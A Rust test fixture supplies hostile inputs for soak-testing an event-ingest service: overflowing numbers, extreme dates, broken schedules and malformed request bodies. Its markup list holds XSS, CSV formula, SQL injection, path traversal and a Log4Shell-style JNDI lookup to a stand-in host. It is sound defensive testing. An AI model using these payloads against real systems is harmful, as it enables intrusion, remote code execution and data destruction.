//! The hostile values the soak draws from: what a buggy or malicious
//! producer can put in an event. Each list names what it is aimed at.

use serde_json::{Value, json};

/// Numbers and non-numbers where the engine reads a number: overflow in
/// time arithmetic, negative durations, floats, strings, wrong types.
pub fn numbers() -> Vec<Value> {
    vec![
        json!(1e308),
        json!(-1e308),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e19),
        json!(9_223_372_036_854_775u64),
        json!(1_000_000_000_000i64),
        json!(31_536_000_000i64),
        json!(-1),
        json!(-86_400),
        json!(0),
        json!(0.5),
        json!(60.0),
        json!(1e-9),
        json!("60"),
        json!("sixty"),
        json!(""),
        json!(true),
        json!(null),
        json!([]),
        json!({"seconds": 60}),
    ]
}

/// The metadata keys the engine or the model reads as numbers, flags or
/// policy, by the event types that carry them.
pub const JOB_POLICY_KEYS: &[&str] = &[
    "grace_seconds",
    "interval_seconds",
    "max_runtime_seconds",
    "min_runtime_seconds",
    "start_grace_seconds",
    "repeat_interval_seconds",
    "failure_threshold",
    "check_enabled",
    "alert_on_failure",
    "alert_on_miss",
    "schedule",
    "timezone",
    "depends_on",
];

/// Schedules and time zones that parse badly or produce extreme times.
pub fn schedules() -> Vec<Value> {
    vec![
        json!("every 0s"),
        json!("every -5m"),
        json!("every 99999999999999d"),
        json!("every 1s"),
        json!("* * * * * * *"),
        json!("0 0 31 2 *"),
        json!("59 23 31 12 * 9999"),
        json!("*/0 * * * *"),
        json!("Mars/Olympus_Mons"),
    ]
}

/// `ping_interval_seconds` of a `chief.heartbeat` large enough to overflow
/// `DateTime + Duration` (the evaluator's panic of issue 19), and negative.
pub fn huge_pings() -> Vec<Value> {
    vec![
        json!(1e308),
        json!(u64::MAX),
        json!(i64::MAX),
        json!(9_223_372_036_854_775u64),
        json!(1e15),
        json!(1_000_000_000_000i64),
        json!(-1),
        json!(-1e18),
    ]
}

/// `eventAt` far ahead: year 9999 (and year 10000 once its offset is
/// applied), far enough to freeze liveness if it is believed.
pub const FAR_FUTURE: &[&str] = &[
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-05:00",
    "9999-12-31T23:59:59.999999999-14:00",
    "+10000-01-01T00:00:00Z",
    "2999-01-01T00:00:00Z",
    "2262-04-11T23:47:16.854775807Z",
];

pub const FAR_PAST: &[&str] = &[
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "0000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z",
    "1677-09-21T00:12:43.145224192Z",
    "1970-01-01T00:00:00Z",
    "1900-01-01T00:00:00Z",
];

/// Producer text that must stay text in every sink: HTML head and
/// attributes, Slack and other chat markup, CSV formulas, log lines.
pub fn markup() -> Vec<String> {
    let mut v: Vec<String> = [
        "</title><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<!channel> <!here> @everyone *bold* `code`",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "line one\nERROR forged log line\r\nsecond",
        "\u{1b}[31mred\u{1b}[0m\u{7}",
        "nul\u{0}byte",
        "rtl\u{202e}gpj.exe",
        "zero\u{200b}width",
        "emoji 🔥💥 and ünïcödé",
        "../../../etc/passwd",
        "%00%2e%2e%2f",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
        "'; DROP TABLE events; --",
        "   ",
        "\t",
        "",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    // The longest accepted identifier, and one past it.
    v.push("x".repeat(512));
    v.push("y".repeat(513));
    v
}

/// Bodies that are not an event: the ingest must answer 4xx, not 5xx or
/// a dropped connection. (path, content type, body)
pub fn malformed() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_obj = format!(
        "{{\"sourceType\":\"worker\",\"level\":\"info\",\"eventType\":\"x\",\"message\":\"m\",\"metadata\":{}1{}}}",
        "{\"a\":".repeat(5_000),
        "}".repeat(5_000)
    );
    let json = "application/json";
    vec![
        ("/v1/events", json, b"{".to_vec()),
        ("/v1/events", json, b"not json at all".to_vec()),
        ("/v1/events", json, b"".to_vec()),
        ("/v1/events", json, b"\"a string\"".to_vec()),
        ("/v1/events", json, b"{}".to_vec()),
        ("/v1/events", json, b"null".to_vec()),
        ("/v1/events", json, vec![0xff, 0xfe, b'{', 0x00, 0x80]),
        ("/v1/events", json, br#"{"sourceType":5,"level":[],"eventType":{},"message":null}"#.to_vec()),
        ("/v1/events", json, br#"{"sourceType":"worker","level":"info","eventType":"x","message":"m","metadata":{"grace_seconds":1e999999}}"#.to_vec()),
        ("/v1/events", json, br#"{"sourceType":"worker","sourceType":"chief","level":"info","eventType":"job.started","message":"dup keys","jobName":"soak-hostile-dup"}"#.to_vec()),
        ("/v1/events", json, br#"{"sourceType":"worker","level":"info","eventType":"job.started","message":"m","eventAt":"yesterday"}"#.to_vec()),
        ("/v1/events", json, br#"{"sourceType":"worker","level":"info","eventType":"job.started","message":"m","eventAt":1700000000}"#.to_vec()),
        ("/v1/events", "text/plain", br#"{"sourceType":"worker","level":"info","eventType":"x","message":"m"}"#.to_vec()),
        ("/v1/events", "application/x-www-form-urlencoded", b"a=b&c=d".to_vec()),
        ("/v1/events", json, deep.clone().into_bytes()),
        ("/v1/events", json, deep_obj.into_bytes()),
        ("/v1/events/batch", json, b"{\"events\": 5}".to_vec()),
        ("/v1/events/batch", json, b"[1, \"two\", null, [], {}]".to_vec()),
        ("/v1/events/batch", json, b"{\"events\": [".to_vec()),
        ("/v1/events/batch", json, deep.into_bytes()),
    ]
}
